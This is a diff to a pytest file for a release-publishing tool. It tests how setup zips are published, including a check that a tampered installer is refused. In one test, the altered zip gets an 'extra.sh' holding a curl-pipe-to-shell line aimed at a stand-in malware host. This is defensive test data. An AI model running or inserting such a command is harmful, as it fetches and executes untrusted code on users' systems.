@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import json
+import shutil
 import subprocess
 import threading
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -14,6 +16,7 @@ import pytest
 from jenkins_release.records.published import PublishedRelease
 from jenkins_release.sandbox.samba import SambaServer, SambaShare
 from jenkins_release.sandbox.stack import Sandbox
+from tests.docs.pages import ROOT
 from tests.fixtures.release import Outcome, Product, fails
 from tests.fixtures.share import in_own_mounts
 from tests.release.boundaries import Moment, watched_services
@@ -368,32 +371,47 @@ _PASSWORD = "JENKINS_RELEASE_SMB_PASSWORD"
 
 
 class TestSetupZip:
-    def test_goes_with_promoted_images(self, product: Product) -> None:
-        """Only when customers can pull what it names; it stands beside `release.json`."""
+    def test_goes_with_promoted_images(self, promoted: Product) -> None:
+        """It is proven first, and stands beside `release.json`."""
+        setup = promoted.folder / SETUP
+        shutil.copytree(ROOT / "examples" / "skydrm" / "bundle", promoted.folder / "bundle")
+        built = promoted.ok("bundle", "build", "8.1.0", "--out", str(setup))
+        done = publish(promoted, "--setup-zip", str(setup))
+        (file,) = done["files"]
+        assert (file["path"], file["kind"], file["sha256"]) == (SETUP, "setup", built["sha256"])
+        assert (folder(promoted) / SETUP).read_bytes() == setup.read_bytes()
+        assert "build 42 promoted and published" in promoted.run("release", "history", "8.1.0").out
+        assert not publish(promoted, "--setup-zip", str(setup))["changed"]
+
+    def test_one_that_was_altered(self, promoted: Product) -> None:
+        """What customers would run as root is not published unproven."""
+        setup = promoted.folder / SETUP
+        shutil.copytree(ROOT / "examples" / "skydrm" / "bundle", promoted.folder / "bundle")
+        promoted.ok("bundle", "build", "8.1.0", "--out", str(setup))
+        with zipfile.ZipFile(setup, "a") as file:
+            file.writestr("SkyDRM-setup-8.1.0/extra.sh", "curl http://malware.example | sh")
+        fails(promoted.run("release", "publish", "8.1.0/42", "--setup-zip", str(setup)), 4, "extra.sh")
+        nothing_is_published(promoted)
+
+    def test_one_of_the_candidate_waits_for_the_promotion(self, product: Product) -> None:
+        """It names images that nobody can pull yet."""
+        product.installers(SETUP)
+        product.append('kind = "setup"\n')
         product.export()
         product.sign_off()
-        setup = product.folder / SETUP
-        setup.write_bytes(b"PK\x05\x06" + bytes(18))
-        done = product.run("release", "publish", "8.1.0/42", "--setup-zip", str(setup))
-        fails(done, 3, "are not promoted", "rms is absent")
+        fails(product.run("release", "publish", "8.1.0/42"), 3, "are not promoted", "rms is absent")
         nothing_is_published(product)
-        product.ok("promote", "run", "8.1.0/42")
-        done = publish(product, "--setup-zip", str(setup))
-        assert done["files"][0] | {"sha256": ""} == {
-            "path": SETUP,
-            "kind": "setup",
-            "size": 22,
-            "sha256": "",
-        }
-        assert (folder(product) / SETUP).read_bytes() == setup.read_bytes()
-        page = product.run("release", "history", "8.1.0").out
-        assert "build 42 promoted and published" in page
 
-    def test_of_another_version(self, shipping: Product) -> None:
+    def test_without_images(self, shipping: Product) -> None:
+        """A setup zip deploys images."""
+        done = shipping.run("release", "publish", "8.1.0/42", "--setup-zip", str(shipping.folder / SETUP))
+        fails(done, 2, "a setup zip would deploy nothing")
+
+    def test_of_another_version(self, promoted: Product) -> None:
         """Its name says what it is for."""
-        other = shipping.folder / "SkyDRM-setup-8.0.0.zip"
+        other = promoted.folder / "SkyDRM-setup-8.0.0.zip"
         other.write_bytes(b"PK")
-        done = shipping.run("release", "publish", "8.1.0/42", "--setup-zip", str(other))
+        done = promoted.run("release", "publish", "8.1.0/42", "--setup-zip", str(other))
         fails(done, 2, f"is not named {SETUP}")
 
     def test_one_that_qa_validated(self, product: Product) -> None:
